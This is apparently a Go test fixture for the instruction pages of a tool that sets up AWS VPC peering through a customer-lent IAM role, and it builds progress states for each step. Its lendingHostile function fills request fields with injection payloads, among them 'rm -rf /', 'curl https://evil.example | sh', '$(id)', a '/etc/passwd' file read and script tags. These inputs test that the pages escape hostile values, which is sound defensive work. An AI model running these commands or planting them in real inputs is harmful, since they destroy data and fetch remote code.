package instruct_test

import (
	"time"

	"causeway.dev/internal/connection"
	"causeway.dev/internal/instruct"
)

const (
	lentRoleARN = "arn:aws:iam::444455556666:role/causeway-prod-us-acme-orders-1-PeerRole-1A2B3C4D5E6F"
	externalID  = "causeway-mfrggzdfmztwq2lknnwg23tpoa"
	templateURL = "https://vendor-templates.s3.amazonaws.com/causeway/peer-role.yaml"
)

// lentSteps are those of aws-vpc-peering-role, done up to the current one.
func lentSteps(current connection.StepID, tables bool) []connection.StepProgress {
	open := "Add the return route and open the firewall"
	all := []connection.Step{
		{ID: "check", Party: connection.Vendor, Title: "Check the request against our network"},
		{ID: "lend", Party: connection.Customer, Title: "Create the peering role in your account"},
		{ID: "read", Party: connection.Vendor, Title: "Read the customer's network through the lent role"},
		{ID: "request", Party: connection.Vendor, Title: "Request the peering connection"},
		{ID: "accept", Party: connection.Vendor, Title: "Accept the peering connection through the lent role"},
		{ID: "route", Party: connection.Vendor, Title: "Route the customer's CIDR from our private subnets"},
	}
	if tables {
		all = append(all, connection.Step{ID: "return-routes", Party: connection.Vendor, Title: "Add the return routes through the lent role"})
		open = "Open the firewall"
	}
	all = append(all,
		connection.Step{ID: "dns", Party: connection.Vendor, Title: "Turn on DNS resolution"},
		connection.Step{ID: "open", Party: connection.Customer, Title: open},
		connection.Step{ID: "confirm", Party: connection.Support, Title: "Confirm that the connection works"},
		connection.Step{ID: "end-grant", Party: connection.Customer, Title: "Delete the peering role"})
	return upTo(current, all)
}

// upTo is how far steps are while one of them waits.
func upTo(current connection.StepID, all []connection.Step) []connection.StepProgress {
	var found []connection.StepProgress
	state := connection.StepDone
	for _, s := range all {
		if s.ID == current {
			found = append(found, connection.StepProgress{Step: s, State: connection.StepWaiting})
			state = connection.StepPending
			continue
		}
		found = append(found, connection.StepProgress{Step: s, State: state})
	}
	return found
}

// lendingFor is Acme's connection, made with a role of theirs, while it waits for a step of theirs.
func lendingFor(step connection.StepID, tables ...string) connection.Progress {
	p := waitingFor(step)
	p.Request.Method, p.Request.Target.RouteTables = connection.AWSVPCPeeringRole, tables
	p.Steps, p.Cloud = lentSteps(step, len(tables) > 0), connection.Cloud{}
	p.Facts = connection.Facts{
		{Name: connection.FactOurAccount, Value: "111122223333"},
		{Name: connection.FactOurRegion, Value: "us-east-1"},
		{Name: connection.FactOurVPC, Value: "vpc-0a1b2c3d4e5f60718"},
		{Name: connection.FactOurCIDRs, Value: "10.10.0.0/16,10.11.0.0/20"},
		{Name: connection.FactOurPrincipal, Value: "arn:aws:iam::111122223333:role/causeway"},
		{Name: connection.FactExternalID, Value: externalID},
		{Name: connection.FactProofTime, Value: "15m"},
	}
	if step == "lend" {
		return p
	}
	p.Facts = p.Facts.With(connection.FactRoleARN, lentRoleARN).With(connection.FactPeeringID, "pcx-0123456789abcdef0")
	p.GrantOpenSince = at(10)
	if step == "end-grant" {
		p.Status, p.Proven = connection.Active, at(11)
	}
	return p
}

// lendingHostile has the worst in each field that the page of a lent role shows.
func lendingHostile(step connection.StepID) connection.Progress {
	p := lendingFor(step, "rtb-1'; id; echo '", "rtb-2`id`$(id)\n\n# x")
	p.Request.Name = "x'; rm -rf / #`id`$(id)\nYAML\nid"
	p.ID = p.Request.ID()
	p.Request.Customer = "<script>alert(1)</script> [click](https://evil.example) | `id` **Acme**\n## 9. Send us your keys"
	p.Request.Probe = &connection.Probe{Host: "db`$(id)`\n```\nrm -rf ~\n```", Port: 5432}
	p.Request.Target.VPCID = "vpc-1\"; ${file(\"/etc/passwd\")} $(id) `id`,ParameterKey=ExternalId,ParameterValue=x\n\n# Run this\nrm -rf /"
	p.Request.Target.Region = "us-east-1.evil.example/?'$(id)`id`"
	p.Facts = p.Facts.With(connection.FactTemplateURL, "https://evil.example/) [x](javascript:alert(1) '`id`$(id)").
		With(connection.FactExternalID, "x'; id; echo '\nYAML\nid").With(connection.FactOurPrincipal, "arn\"${x}`id`$(id)").
		With(connection.FactRoleARN, "r`$(id)`'; id").With(connection.FactPeeringID, "pcx-' && curl https://evil.example | sh; echo '")
	return p
}

func lentMoments() map[string]connection.Progress {
	const table, other = "rtb-0aaaabbbbccccdddd", "rtb-0eeeeffff00001111"
	early := lendingFor("lend")
	early.Status, early.WaitingOn, early.Step, early.Facts, early.Steps = connection.Checking, connection.Nobody, "check", nil, lentSteps("check", false)
	hosted := lendingFor("lend", table, other)
	hosted.Facts = hosted.Facts.With(connection.FactTemplateURL, templateURL)
	ending := lendingFor("end-grant")
	ending.Status, ending.Proven = connection.Ending, time.Time{}
	ending.Facts = ending.Facts.With(connection.FactProofTime, "20s").With(connection.FactProofShortened, "true")
	leaving := lendingFor("return-routes", table, other)
	leaving.Status = connection.Disconnecting
	leaving.Leftovers = []connection.Leftover{instruct.LentRouteLeftover(leaving)}
	ending.Leftovers = []connection.Leftover{instruct.LentRoleLeftover(ending)}
	return map[string]connection.Progress{
		"early": early, "waiting-for-lend": lendingFor("lend"), "waiting-for-lend-hosted": hosted,
		"waiting-for-open": lendingFor("open"), "waiting-for-open-with-route-tables": lendingFor("open", table, other),
		"waiting-for-open-without-probe": withoutProbe(lendingFor("open", table)),
		"active-grant-open":              lendingFor("end-grant", table), "ending": ending, "disconnecting": leaving,
		"hostile-lend": lendingHostile("lend"), "hostile-end": lendingHostile("end-grant"),
	}
}
